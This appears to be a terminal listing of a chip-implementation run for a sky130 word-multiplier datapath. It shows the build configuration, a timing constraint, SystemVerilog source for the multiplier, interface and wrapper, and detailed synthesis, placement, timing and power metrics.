$ cat config.mk
export PLATFORM = sky130hd
export DESIGN_NAME = karat_word_mul_datapath_flat
export DESIGN_NICKNAME = d
export VERILOG_FILES = /design/src/rtl/karat_word_mul_datapath_if.sv /design/src/rtl/karat_word_mul_datapath.sv /design/src/flat_wrapper.sv
export SDC_FILE = /design/constraint.sdc
export NUM_CORES = 1
export LEC_CHECK = 0
export BUFFER_PORTS_ARGS = -buffer_cell sky130_fd_sc_hd__buf_2
export CELL_PAD_IN_SITES_DETAIL_PLACEMENT = 1
export CELL_PAD_IN_SITES_GLOBAL_PLACEMENT = 1
export CORE_MARGIN = 1.5
export CORE_UTILIZATION = 40
export DETAILED_ROUTE_END_ITERATION = 8
export GPL_TIMING_DRIVEN = 0
export PLACE_DENSITY = 0.76
export SETUP_SLACK_MARGIN = 0.02
export SYNTH_ARGS = -nofsm -noshare
export SYNTH_HDL_FRONTEND = slang
export SYNTH_SLANG_ARGS = --single-unit
export TNS_END_PERCENT = 5
$ cat constraint.sdc
create_clock -name clk -period 22.4 [get_ports clk]
set_input_delay 4.48 -clock clk [delete_from_list [all_inputs] [get_ports clk]]
set_output_delay 4.48 -clock clk [all_outputs]
set_load 0.02 [all_outputs]
$ cat src/rtl/karat_word_mul_datapath_if.sv
// Handshake and result bus between the schoolbook control FSM and the word-multiplier datapath.
// master = control side, slave = datapath side.
interface karat_word_mul_datapath_if #(
  parameter int W = 16
);
  logic         ld_en;
  logic         ld_sel;
  logic [1:0]   ld_addr;
  logic [W-1:0] ld_data;
  logic [1:0]   addra;
  logic [1:0]   addrb;
  logic         karatRst;
  logic         karatDone;
  logic         mulOn;
  logic         outLoop;
  logic         mulEnd;
  logic         res_valid;
  logic [2:0]   res_idx;
  logic [W-1:0] res_word;
  logic         mul_done;

  modport master (
    output ld_en, ld_sel, ld_addr, ld_data, addra, addrb,
    output karatRst, mulOn, outLoop, mulEnd,
    input  karatDone, res_valid, res_idx, res_word, mul_done
  );

  modport slave (
    input  ld_en, ld_sel, ld_addr, ld_data, addra, addrb,
    input  karatRst, mulOn, outLoop, mulEnd,
    output karatDone, res_valid, res_idx, res_word, mul_done
  );
endinterface

$ cat src/rtl/karat_word_mul_datapath.sv
// Datapath for the 4x4-word schoolbook multiplier: operand banks, digit-serial word
// multiplier under the karatRst/karatDone handshake, and column accumulator/emitter.
module karat_word_mul_datapath #(
  parameter int W = 16,
  parameter int D = 4
) (
  input logic                     clk,
  input logic                     rst,
  karat_word_mul_datapath_if.slave bus
);
  localparam int NDIG  = W / D;
  localparam int K_W   = (NDIG > 1) ? $clog2(NDIG) : 1;
  localparam int ACC_W = 2 * W + 4;
  localparam logic [K_W-1:0] K_LAST = K_W'(NDIG - 1);

  logic [W-1:0]     bank_a_r [4];
  logic [W-1:0]     bank_b_r [4];
  logic [W-1:0]     opa_r;
  logic [W-1:0]     opb_r;
  logic [2*W-1:0]   prod_r;
  logic [K_W-1:0]   k_r;
  logic             karat_done_r;
  logic             armed_r;
  logic [ACC_W-1:0] acc_r;
  logic [2:0]       col_r;
  logic             res_valid_r;
  logic [2:0]       res_idx_r;
  logic [W-1:0]     res_word_r;
  logic             mul_done_r;

  logic [D-1:0]     digit_s;
  logic [2*W-1:0]   pp_s;
  logic [2*W-1:0]   prod_next_s;
  logic [ACC_W-1:0] sum_s;

  // Partial product of the current digit, aligned to its weight, and the next prod value.
  always_comb begin
    digit_s     = opb_r[k_r*D +: D];
    pp_s        = ({{W{1'b0}}, opa_r} * {{(2*W-D){1'b0}}, digit_s}) << (D * k_r);
    prod_next_s = pp_s;
    if (k_r == {K_W{1'b0}}) begin
      prod_next_s = pp_s;
    end else begin
      prod_next_s = prod_r + pp_s;
    end
  end

  // Column sum: prod joins the accumulator in the same edge that mulOn is sampled.
  always_comb begin
    sum_s = acc_r;
    if (bus.mulOn) begin
      sum_s = acc_r + {{(ACC_W-2*W){1'b0}}, prod_r};
    end else begin
      sum_s = acc_r;
    end
  end

  // Operand banks; writes never touch the latched opa/opb.
  always_ff @(posedge clk) begin
    if (rst) begin
      for (int i = 0; i < 4; i++) begin
        bank_a_r[i] <= {W{1'b0}};
        bank_b_r[i] <= {W{1'b0}};
      end
    end else if (bus.ld_en) begin
      if (bus.ld_sel) begin
        bank_b_r[bus.ld_addr] <= bus.ld_data;
      end else begin
        bank_a_r[bus.ld_addr] <= bus.ld_data;
      end
    end
  end

  // Digit-serial multiplier. armed_r keeps a post-reset karatRst=0 from starting a bogus run.
  always_ff @(posedge clk) begin
    if (rst) begin
      opa_r        <= {W{1'b0}};
      opb_r        <= {W{1'b0}};
      prod_r       <= {(2*W){1'b0}};
      k_r          <= {K_W{1'b0}};
      karat_done_r <= 1'b0;
      armed_r      <= 1'b0;
    end else if (bus.karatRst) begin
      opa_r        <= bank_a_r[bus.addra];
      opb_r        <= bank_b_r[bus.addrb];
      k_r          <= {K_W{1'b0}};
      karat_done_r <= 1'b0;
      armed_r      <= 1'b1;
    end else if (armed_r && !karat_done_r) begin
      prod_r <= prod_next_s;
      k_r    <= k_r + K_W'(1);
      if (k_r == K_LAST) begin
        karat_done_r <= 1'b1;
      end
    end
  end

  // Accumulator and result emitter; mulEnd outranks outLoop.
  always_ff @(posedge clk) begin
    if (rst) begin
      acc_r       <= {ACC_W{1'b0}};
      col_r       <= 3'd0;
      res_valid_r <= 1'b0;
      res_idx_r   <= 3'd0;
      res_word_r  <= {W{1'b0}};
      mul_done_r  <= 1'b0;
    end else begin
      if (bus.mulEnd) begin
        res_word_r  <= sum_s[W-1:0];
        res_idx_r   <= 3'd7;
        res_valid_r <= 1'b1;
        acc_r       <= {ACC_W{1'b0}};
        col_r       <= 3'd0;
      end else if (bus.outLoop) begin
        res_word_r  <= sum_s[W-1:0];
        res_idx_r   <= col_r;
        res_valid_r <= 1'b1;
        acc_r       <= sum_s >> W;
        col_r       <= col_r + 3'd1;
      end else begin
        res_valid_r <= 1'b0;
        acc_r       <= sum_s;
      end
      if (bus.mulEnd) begin
        mul_done_r <= 1'b1;
      end else if (bus.mulOn) begin
        mul_done_r <= 1'b0;
      end
    end
  end

  assign bus.karatDone = karat_done_r;
  assign bus.res_valid = res_valid_r;
  assign bus.res_idx   = res_idx_r;
  assign bus.res_word  = res_word_r;
  assign bus.mul_done  = mul_done_r;
endmodule

$ cat src/flat_wrapper.sv
// flat-port wrapper written by rule: the top's interface ports become plain ports
module karat_word_mul_datapath_flat 
#(
  parameter int W = 16,
  parameter int D = 4
)
  (clk, rst, bus_ld_en, bus_ld_sel, bus_ld_addr, bus_ld_data, bus_addra, bus_addrb, bus_karatRst, bus_mulOn, bus_outLoop, bus_mulEnd, bus_karatDone, bus_res_valid, bus_res_idx, bus_res_word, bus_mul_done);
  karat_word_mul_datapath_if #(.W(W)) bus_i ();
  input logic clk;
  input logic rst;
  input wire logic [$bits(bus_i.ld_en)-1:0] bus_ld_en;
  input wire logic [$bits(bus_i.ld_sel)-1:0] bus_ld_sel;
  input wire logic [$bits(bus_i.ld_addr)-1:0] bus_ld_addr;
  input wire logic [$bits(bus_i.ld_data)-1:0] bus_ld_data;
  input wire logic [$bits(bus_i.addra)-1:0] bus_addra;
  input wire logic [$bits(bus_i.addrb)-1:0] bus_addrb;
  input wire logic [$bits(bus_i.karatRst)-1:0] bus_karatRst;
  input wire logic [$bits(bus_i.mulOn)-1:0] bus_mulOn;
  input wire logic [$bits(bus_i.outLoop)-1:0] bus_outLoop;
  input wire logic [$bits(bus_i.mulEnd)-1:0] bus_mulEnd;
  output wire logic [$bits(bus_i.karatDone)-1:0] bus_karatDone;
  output wire logic [$bits(bus_i.res_valid)-1:0] bus_res_valid;
  output wire logic [$bits(bus_i.res_idx)-1:0] bus_res_idx;
  output wire logic [$bits(bus_i.res_word)-1:0] bus_res_word;
  output wire logic [$bits(bus_i.mul_done)-1:0] bus_mul_done;
  assign bus_i.ld_en = bus_ld_en;
  assign bus_i.ld_sel = bus_ld_sel;
  assign bus_i.ld_addr = bus_ld_addr;
  assign bus_i.ld_data = bus_ld_data;
  assign bus_i.addra = bus_addra;
  assign bus_i.addrb = bus_addrb;
  assign bus_i.karatRst = bus_karatRst;
  assign bus_i.mulOn = bus_mulOn;
  assign bus_i.outLoop = bus_outLoop;
  assign bus_i.mulEnd = bus_mulEnd;
  assign bus_karatDone = bus_i.karatDone;
  assign bus_res_valid = bus_i.res_valid;
  assign bus_res_idx = bus_i.res_idx;
  assign bus_res_word = bus_i.res_word;
  assign bus_mul_done = bus_i.mul_done;
  karat_word_mul_datapath #(.W(W), .D(D)) u_core (.clk(clk), .rst(rst), .bus(bus_i));
endmodule
==> impl_metrics.env <==
export IMPL_synth_nets=1862
export IMPL_cts_sinks=256
export IMPL_clk_latency_ns=0.58
export IMPL_grt_setup_unrepaired="false"
export IMPL_max_cap_viol_count=0
export IMPL_fin_crit_ns=8.583
export IMPL_cts_tree="done"
export IMPL_period_share=0.3832
export IMPL_dieArea_sq_mm=0.04265
export IMPL_place_hpwl_mm=38.83
export IMPL_nNetsFinal=1938
export IMPL_grt_pass1_vias=13910
export IMPL_timing_fmax_mhz=116.5
export IMPL_synth_area_leaders="edfxtp_1 23%, dfxtp_1 15%, and2_1 7.1%"
export IMPL_layout_common_cells="187 x and2_1, 171 x nor2_1, 128 x dfxtp_1, 128 x edfxtp_1, 105 x a21oi_1"
export IMPL_fin_setup_tns_ns=0
export IMPL_holdCritStartpoint="u_core.bus.res_word[7]$_SDFFE_PP0P_"
export IMPL_r2r_cells=29
export IMPL_required_ns=22.87
export IMPL_setup_worst_path_start_class="flip-flop"
export IMPL_avgSynthCellArea_sq_um=9.684
export IMPL_p_per_area_mw_per_mm2=65.41
export IMPL_area_growth_pct=11.34
export IMPL_leakage_uw=0.007733
export IMPL_cts_root_buf="clkbuf_16"
export IMPL_power_uw=1207
export IMPL_cts_resized=0
export IMPL_wl_per_cell_um=21.52
export IMPL_max_vdd_ir_drop_uv=80.14
export IMPL_syn_inst=1711
export IMPL_grt_max_degree=17
export IMPL_r2r_end="u_core.prod_r[31]$_SDFFE_PP0P_"
export IMPL_place_congestion=0.9398
export IMPL_synth_distinct_cells=76
export IMPL_cpPeakStageDelay_ns=0.68
export IMPL_setup_viol=0
export IMPL_criticalPathCategory="reg -> reg"
export IMPL_cp_end_kind="flip-flop"
export IMPL_dr_pass1_iters=9
export IMPL_final_hold_violation_count=0
export IMPL_critical_path_max_fanout=10
export IMPL_worstHoldPathCells=2
export IMPL_antenna_found_initial=0
export IMPL_ys_seq_area_frac=0.3866
export IMPL_clock_skew_ns=0.01398
export IMPL_routed_wl_mm=50.36
export IMPL_r2r_start="u_core.k_r[0]$_SDFFE_PP0P_"
export IMPL_hold_buffers=0
export IMPL_crit_slowest_cell="mux4_2"
export IMPL_r2r_slack_ns=13.82
export IMPL_hold_class="reg -> reg"
export IMPL_die_h_um=206.5
export IMPL_io_pins=52
export IMPL_drc=0
export IMPL_hold_ws_ns=0.4646
export IMPL_yosys_area_top_type="edfxtp_1"
export IMPL_gr_total_overflow=0
export IMPL_clk_pin_slew_ns=0.06
export IMPL_worst_pin_slew_ns=1.100
export IMPL_io_buffers=45
export IMPL_row_count=74
export IMPL_coreArea_sq_mm=0.04083
export IMPL_grt_pass1_wl_mm=78.90
export IMPL_worstPathArrival_ns=9.05
export IMPL_synth_edf_count=128
export IMPL_htree_levels=1
export IMPL_layout_commonest_cell="and2_1"
export IMPL_drtIter0Drc=723
export IMPL_async_flop_share=0
export IMPL_num_vias=13250
export IMPL_drive_gt1_frac=0.08739
export IMPL_n_fill_cell=4639
export IMPL_cts_buffers=29
export IMPL_drtAntennaViolNets=0
export IMPL_post_cts_buffers=0
export IMPL_clk_path_buf_depth=3
export IMPL_relSlewSlack=0.2652
export IMPL_timing_final_max_slew_violations=0
export IMPL_yosysWarnings=0
export IMPL_synth_area_sq_mm=0.01657
export IMPL_die_x_um=206.5
export IMPL_synth_top_area_frac=0.2320
export IMPL_grt_usage=0.2392
export IMPL_status="completed"
export IMPL_viasPerCell=5.661
export IMPL_holdPathEnd="u_core.bus.res_word[7]$_SDFFE_PP0P_"
export IMPL_antenna_cells=0
export IMPL_ys_ff_latch=256
export IMPL_initial_core_util=0.4058
export IMPL_synth_main_ff_cell="edfxtp_1"
-- synth_stat cells (4+ instances only) --
cell and number:
a21boi_0 4, and2_1 187, or2_2 7, a21oi_1 105
a311oi_1 5, a31oi_1 15, nand3_1 24, or3_1 8
xor2_1 22, o21bai_1 13, nand2_1 91, buf_1 7
o211a_1 4, fa_1 30, o31ai_1 6, mux2_2 7
mux2i_1 63, nand4_1 8, a21o_1 43, a22o_1 5
nor2_1 171, a311o_1 4, o21ai_0 67, nand3b_1 4
xnor2_1 44, nor3_1 41, nand2b_1 11, o211ai_1 7
ha_1 91, a211oi_1 45, dfxtp_1 128, o221ai_1 5
o21a_1 16, nor2b_1 21, inv_1 89, edfxtp_1 128
and3_1 15, clkbuf_1 75, mux4_2 39
-- worst max-delay path, delay by kind of cell, from the launching register on --
family,cells,cell delay (ns)
adder cells (fa/ha/maj),4,1.65
AND/OR/NAND/NOR,6,1.09
multiplexers,2,1.22
buffers and inverters,6,1.25
flip-flops,1,0.35
XOR/XNOR,1,0.16
AO/OA/AOI/OAI,10,2.72
-- metrics by stage --
stage | area, sq um | util | setup WS, ns | cells
6_report | 18450 | 0.4518 | 13.82 | 2340
5_1_grt | 18450 | 0.4518 | 13.18 | 2340
4_1_cts | 18450 | 0.4518 | 13.81 | 2340
3_5_place_dp | 17470 | 0.4278 | 13.89 | 2288
3_3_place_gp | 17460 | 0.4276 | 13.87 | 2288
2_1_floorplan | 16570 | - | 15.20 | 1711
-- state kept, by name (all words and copies together) (netlist names) --
name / flops
u_core.k_r: 2
u_core.opa_r: 16
u_core.acc_r: 36
u_core.bank_b_r: 64
u_core.prod_r: 32
u_core.col_r: 3
u_core.bank_a_r: 64
u_core.bus.karatDone: 1
u_core.bus.res_idx: 3
u_core.bus.res_word: 16
u_core.armed_r: 1
u_core.bus.res_valid: 1
u_core.opb_r: 16
u_core.bus.mul_done: 1
-- layout make-up --
type | count | area [sq um] | share of cell area
well taps | 532 | 665.6 | 0.03608
repair buffers | 45 | 225.2 | 0.01221
clock buffers | 40 | 800.8 | 0.04340
plain buffers | 86 | 334.1 | 0.01811
flip-flops and latches | 256 | 6406 | 0.3472
inverters | 92 | 345.3 | 0.01872
multi-input cells | 1277 | 9492 | 0.5145
clock inverters | 12 | 180.2 | 0.009766
-- routing by layer --
metal  GRT usage  wire (um)
met1      0.3124      22350
met4     0.06418       1259
met5           0          0
met3     0.03155       2151
met2      0.4156      24600
-- kinds of logic after synthesis --
logic type | Yosys count | synth area share
and+or+nand+nor | 598 | 0.1824
AOI/OAI and AO/OA | 382 | 0.1534
DFF | 256 | 0.3866
buffers and inverters | 178 | 0.04100
adders and majority gates | 121 | 0.1050
muxes | 110 | 0.09665
xor gates and xnor gates | 66 | 0.03489
-- worst max path at each step --
stage / from / slack (ns) / cells past startpoint / endpoint
2_1_floorplan: u_core.k_r[0]$_SDFFE_PP0P_ / 15.20 / 29 / u_core.prod_r[31]$_SDFFE_PP0P_
3_3_place_gp: u_core.k_r[0]$_SDFFE_PP0P_ / 13.87 / 29 / u_core.prod_r[31]$_SDFFE_PP0P_
5_1_grt: u_core.k_r[0]$_SDFFE_PP0P_ / 13.18 / 29 / u_core.prod_r[31]$_SDFFE_PP0P_
6_report: u_core.k_r[0]$_SDFFE_PP0P_ / 13.82 / 29 / u_core.prod_r[31]$_SDFFE_PP0P_
3_5_place_dp: u_core.k_r[0]$_SDFFE_PP0P_ / 13.89 / 29 / u_core.prod_r[31]$_SDFFE_PP0P_
4_1_cts: u_core.k_r[0]$_SDFFE_PP0P_ / 13.81 / 29 / u_core.prod_r[31]$_SDFFE_PP0P_
-- power breakdown --
part	switching [uW]	leakage [uW]	internal, uW
clock	201	0.000481	296
sequential	16.2	0.00228	520
combinational	110	0.00497	63.7
total	327	0.00773	879
(Power assumes the default switching activity.)
